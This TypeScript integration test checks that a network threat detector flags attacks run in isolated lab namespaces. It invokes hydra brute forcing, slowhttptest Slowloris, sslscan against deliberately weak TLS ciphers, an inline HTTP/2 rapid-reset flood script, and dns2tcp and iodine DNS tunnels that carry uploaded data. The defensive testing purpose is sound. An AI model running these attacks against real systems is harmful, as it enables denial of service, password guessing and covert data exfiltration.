import assert from 'node:assert/strict'
import { execFileSync, spawn } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { suite, test, type TestContext } from 'node:test'
import type { WorkloadState } from '../../src/model/enforcer-messages.ts'
import type { ThreatRecord } from '../../src/model/records.ts'
import { eventually, temporaryFolder } from '../controller/fixture.ts'
import { onlyNamespaces, PaviseUp } from '../enforcer/pavise-up.ts'
import { type LabNode, needsRoot, NetworkLab } from '../support/network-lab.ts'

/* What hydra, slowhttptest, sslscan, dns2tcp, iodine and a client of HTTP/2 do to hosts of the test, and what a good client does. */

/** What takes ten seconds here takes minutes on a machine that has other work. */
const patienceMs = 180_000
const TUNNEL_PASSWORD = 'of-the-lab'

/** A web server with a part for members, the same over HTTP/2 and, with ciphers that nobody should have, over TLS. */
const server = (folder: string) => `
  const { readFileSync } = require('node:fs')
  const answer = (request, response) => {
    const isPrivate = request.url.startsWith('/private')
    if (isPrivate) response.writeHead(401, { 'www-authenticate': 'Basic realm="members"' })
    request.resume().on('end', () => response.end('ok'))
  }
  require('node:http').createServer(answer).listen(80)
  require('node:http2').createServer(answer).on('sessionError', () => undefined).listen(8080)
  const identity = { key: readFileSync('${folder}/key.pem'), cert: readFileSync('${folder}/cert.pem') }
  require('node:https').createServer({ ...identity, ciphers: 'ALL:eNULL:@SECLEVEL=0', maxVersion: 'TLSv1.2' }, answer)
    .on('tlsClientError', () => undefined)
    .listen(8443, () => console.log('listening'))`

/** Begins requests and takes them back at once. */
const rapidReset = (address: string) => `
  const http2 = require('node:http2')
  const session = http2.connect('http://${address}:8080')
  session.on('error', () => process.exit(0))
  session.on('connect', () => {
    let rounds = 0
    const timer = setInterval(() => {
      if (session.destroyed || ++rounds > 40) { clearInterval(timer); session.destroy(); return }
      for (let i = 0; i < 50; i++) {
        const stream = session.request({ ':path': '/' })
        stream.on('error', () => undefined)
        stream.close(http2.constants.NGHTTP2_CANCEL)
      }
    }, 20)
  })`

/** Six hundred requests over one connection of HTTP/2, a few that are refused, and a page over TLS: what good clients do. */
const good = (address: string) => `
  ;(async () => {
    const session = require('node:http2').connect('http://${address}:8080')
    const ask = (path) => new Promise((resolve, reject) =>
      session.request({ ':path': path }).on('error', reject).on('end', resolve).resume())
    for (let i = 0; i < 600; i += 50) await Promise.all(Array.from({ length: 50 }, (_, j) => ask('/items/' + (i + j))))
    session.close()
    for (let i = 0; i < 10; i++) await fetch('http://${address}/private')
    await new Promise((resolve) => require('node:https')
      .get('https://${address}:8443/', { rejectUnauthorized: false, ciphers: 'ECDHE+AESGCM' }, (answer) => answer.resume().on('end', resolve)))
    console.log('done')
  })()`

function spawned(t: TestContext, node: LabNode, command: string, ...args: string[]) {
  const child = spawn('nsenter', [`--net=${node.path}`, command, ...args], {
    stdio: 'ignore',
    timeout: patienceMs,
    cwd: tmpdir(),
  })
  t.after(() => void child.kill('SIGKILL'))
  return child
}

async function tool(t: TestContext, node: LabNode, command: string, ...args: string[]): Promise<void> {
  await once(spawned(t, node, command, ...args), 'close')
}

function makeIdentity(folder: string): void {
  const files = ['-keyout', join(folder, 'key.pem'), '-out', join(folder, 'cert.pem')]
  const request = ['req', '-x509', '-nodes', '-days', '30', '-newkey', 'rsa:2048', '-subj', '/CN=web.lab']
  execFileSync('openssl', [...request, ...files], { stdio: 'ignore' })
}

suite('threats are seen as real tools make them, all at once', { skip: needsRoot }, () => {
  test('guessing, slow requests, weak TLS, tunnels in DNS and rapid resets; a good client is none', async (t) => {
    const lab = new NetworkLab(t)
    const names = ['web', 'guest', 'guesser', 'slow', 'scanner', 'inside', 'insider', 'resetter'] as const
    const nodes = Object.fromEntries(names.map((name) => [name, lab.add(name)])) as Record<
      (typeof names)[number],
      LabNode
    >
    const folder = temporaryFolder(t)
    makeIdentity(folder)
    const { web } = nodes
    await lab.start(web, server(folder))
    const up = await PaviseUp.start(t, [...onlyNamespaces(lab.folder)])
    await up.until<WorkloadState>(
      'workloads',
      (items) => items.filter(({ coverage }) => coverage === 'seen').length >= names.length,
      'the namespaces are seen',
      patienceMs,
    )
    await lab.run(nodes.guest, good(web.address))
    const passwords = join(folder, 'passwords')
    writeFileSync(passwords, Array.from({ length: 120 }, (_, i) => `guess-${i}`).join('\n'))
    const slow = [
      '-c',
      '20',
      '-H',
      '-i',
      '2',
      '-r',
      '20',
      '-l',
      '14',
      '-x',
      '10',
      '-u',
      `http://${web.address}/`,
    ]
    const guess = ['-l', 'admin', '-P', passwords, '-t', '8', `http-get://${web.address}/private`]
    for (const attack of [
      tool(t, nodes.guesser, 'hydra', ...guess),
      tool(t, nodes.slow, 'slowhttptest', ...slow),
      tool(t, nodes.scanner, 'sslscan', `${web.address}:8443`),
      lab.run(nodes.resetter, rapidReset(web.address)),
      dns2tcp(t, { inside: nodes.inside, outside: web, folder }),
      iodine(t, { inside: nodes.insider, outside: nodes.guest }),
    ])
      attack.catch(() => undefined)
    const expected: [ThreatRecord['name'], LabNode][] = [
      ['HTTP.Brute.Force', nodes.guesser],
      ['HTTP.Request.Slowloris', nodes.slow],
      ['TLS.Null.Cipher', nodes.scanner],
      ['HTTP2.Rapid.Reset', nodes.resetter],
      ['DNS.Tunneling', nodes.inside],
      ['DNS.Tunneling', nodes.insider],
    ]
    const all = await up.until<ThreatRecord>(
      'threats?limit=500',
      (items) =>
        expected.every(([name, { address }]) =>
          items.some((each) => each.name === name && each.source?.address === address),
        ),
      'all threats are seen',
      patienceMs,
    )
    const accused = all.filter(({ source }) => source?.address === nodes.guest.address)
    assert.deepEqual(
      accused.map(({ name }) => name).filter((name) => name !== 'TLS.Certificate.Self.Signed'),
      [],
      'a good client is not accused',
    )
  })
})

interface Tunnel {
  inside: LabNode
  outside: LabNode
}

/** A connection to a web server that goes in names of DNS. */
async function dns2tcp(
  t: TestContext,
  { inside, outside, folder }: Tunnel & { folder: string },
): Promise<void> {
  const config = join(folder, 'dns2tcpd.conf')
  writeFileSync(
    config,
    [
      'listen = 0.0.0.0',
      'port = 53',
      'user = nobody',
      'chroot = /tmp',
      'domain = t.example.net',
      'resources = web:127.0.0.1:80',
      '',
    ].join('\n'),
  )
  await answersDns(spawned(t, outside, 'dns2tcpd', '-F', '-f', config))
  spawned(t, inside, 'dns2tcpc', '-z', 't.example.net', '-r', 'web', '-l', '2222', outside.address)
  const url = 'http://127.0.0.1:2222/'
  const upload = ['-s', '--retry', '10', '--retry-connrefused', '--retry-delay', '1', '--max-time', '20']
  await tool(t, inside, 'curl', ...upload, '-d', randomBytes(4000).toString('hex'), url)
}

/** Datagrams of a network inside that go in names of DNS. */
async function iodine(t: TestContext, { inside, outside }: Tunnel): Promise<void> {
  await answersDns(
    spawned(t, outside, 'iodined', '-f', '-c', '-P', TUNNEL_PASSWORD, '10.99.0.1', 't.example.org'),
  )
  // Once it has found its way it asks for what it is sent, and says what it has to.
  await tool(t, inside, 'iodine', '-f', '-r', '-P', TUNNEL_PASSWORD, outside.address, 't.example.org')
}

/** Waits until something in the network namespace of a process takes datagrams for port 53. */
function answersDns({ pid }: { pid?: number | undefined }): Promise<void> {
  return eventually(
    () => / [0-9A-F]+:0035 /.test(readFileSync(`/proc/${pid}/net/udp`, 'utf8')),
    'the far end of the tunnel is there',
    patienceMs,
  )
}
